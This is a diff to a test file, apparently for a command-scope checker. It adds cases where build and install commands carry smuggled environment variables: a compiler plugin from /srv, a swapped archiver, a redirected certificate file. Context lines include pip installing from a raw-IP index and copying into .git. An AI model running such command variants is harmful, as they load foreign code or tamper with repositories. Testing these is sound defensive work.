@@ -105,6 +105,10 @@ def test_a_script_that_changes_is_another_scope(world: World) -> None:
     [
         ("pytest", "pytest @options"),
         ("pytest", "PYTEST_ADDOPTS=--basetemp=src pytest"),
+        ("go build ./...", "CGO_CFLAGS=-fplugin=/srv/x.so go build ./..."),
+        ("cargo build", "AR=/srv/x cargo build"),
+        ("make test", "DESTDIR=/srv make test"),
+        ("npm install", "SSL_CERT_FILE=../x npm install"),
         ("pip install x", "PIP_INDEX_URL=http://203.0.113.9/ pip install x"),
         ("touch a", "cp -r x/.git ."),
         ("touch a", "cp *.txt .git"),
